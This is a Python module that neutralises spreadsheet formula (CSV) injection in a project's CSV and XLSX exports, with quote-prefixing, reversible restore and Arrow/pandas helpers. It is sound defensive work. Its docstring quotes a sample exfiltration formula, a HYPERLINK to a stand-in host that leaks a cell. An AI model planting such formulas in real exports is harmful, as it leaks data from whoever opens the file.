"""Text cells in the CSV and XLSX files the project writes, made safe to open in a spreadsheet.

A spreadsheet reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return) as a formula, so stored text such as ``=HYPERLINK("http://x?leak="&B2, "a")`` would run
when a council officer opens an export (CSV injection). Following OWASP's rule, such a text
cell is written with a single quote in front; leading spaces do not hide a formula, so they
count too. A text that is wholly a number (``-5``, ``+1.5``, ``-2.5%``) or a lone dash is left
alone: a spreadsheet reads it as that number or dash, never as a formula.

The quote is reversible: a text that already starts with quotes before one of those
characters gets one more, and the importer takes exactly one off (``restore``), so importing
an export gives back the stored text. Every writer uses this module: the importer's CSV and
XLSX exports and templates, the app's downloads and the command line's CSV reports.

>>> neutralise('=HYPERLINK("http://x")'), neutralise("-x"), neutralise("-5"), neutralise("Leah")
('\\'=HYPERLINK("http://x")', "'-x", '-5', 'Leah')
>>> restore(neutralise("'=already")) == "'=already"
True
"""

from __future__ import annotations

import re
from collections.abc import Callable

import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc

__all__ = ["neutralise", "restore", "neutralise_frame", "neutralise_array", "restore_array", "csv_bytes"]

# Quotes, then leading white space, then a character that starts a formula; or a text that
# starts with a tab or carriage return (OWASP's list).
_FORMULA = re.compile(r"'*(?:\s*[=+\-@]|[\t\r])")
# A text that is only a number (a spreadsheet reads it as that number), or only a dash (DfE's
# "not available"): neither can hold a formula.
_NUMBER = re.compile(r"\s*(?:[+-]?(?:\d[\d,]*(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?|[+-])\s*")
# The same first test for Arrow (RE2: \s, \pZ and the rest are what Python's \s matches), to
# pick the few cells worth a closer look out of a large column.
_MAYBE = r"^['\s\pZ\x0b\x1c-\x1f\x85]*[=+\-@\t\r]"


def _risky(text: str) -> bool:
    """Whether ``text`` (after any leading quotes) would be read as a formula."""
    return _FORMULA.match(text) is not None and _NUMBER.fullmatch(text.lstrip("'")) is None


def neutralise(text: str) -> str:
    """``text`` as a spreadsheet cell that shows it and runs nothing: a quote in front of a
    formula (and of a text already quoted that way, so ``restore`` can take exactly one off)."""
    return "'" + text if _risky(text) else text


def restore(text: str) -> str:
    """The stored text of a cell ``neutralise`` wrote: one quote off, only where it put one."""
    return text[1:] if text[:1] == "'" and _risky(text[1:]) else text


def _map_where(
    values: pa.Array | pa.ChunkedArray, pattern: str, function: Callable[[str], str]
) -> pa.Array | pa.ChunkedArray:
    """``function`` over the cells matching ``pattern`` (RE2), the rest as they are: a large
    column is scanned by Arrow, and only the few matching cells go through Python."""
    hits = pc.fill_null(pc.match_substring_regex(values, pattern), False)
    if not pc.any(hits).as_py():
        return values  # as it came (a chunked column stays chunked)
    if isinstance(values, pa.ChunkedArray):
        values, hits = values.combine_chunks(), hits.combine_chunks()
    changed = pa.array([function(v) for v in pc.filter(values, hits).to_pylist()], type=values.type)
    # Each hit's place in ``changed`` (a running count of hits), then one pass to put them back:
    # ten times faster than pc.replace_with_mask on a million cells.
    place = pc.if_else(hits, pc.subtract(pc.cumulative_sum(pc.cast(hits, pa.int64())), 1), pa.scalar(None, pa.int64()))
    return pc.if_else(hits, pc.take(changed, place), values)


def neutralise_array(values: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """``neutralise`` over an Arrow string column (nulls stay null)."""
    return _map_where(values, _MAYBE, neutralise)


def restore_array(values: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """``restore`` over an Arrow string column (nulls stay null)."""
    return _map_where(values, r"^'", restore)


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names are neutralised; numbers,
    dates and missing values are left as they are."""
    out = frame.copy()
    for i in range(out.shape[1]):
        column = out.iloc[:, i]
        if isinstance(column.dtype, pd.CategoricalDtype):
            out.isetitem(i, column.cat.rename_categories(lambda v: neutralise(v) if isinstance(v, str) else v))
        elif column.dtype == object or pd.api.types.is_string_dtype(column.dtype):
            out.isetitem(i, column.map(lambda v: neutralise(v) if isinstance(v, str) else v))
    out.columns = [neutralise(c) if isinstance(c, str) else c for c in out.columns]
    return out


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """``frame`` as the CSV a download offers (UTF-8, no index), its text cells neutralised."""
    return neutralise_frame(frame).to_csv(index=False).encode("utf-8")
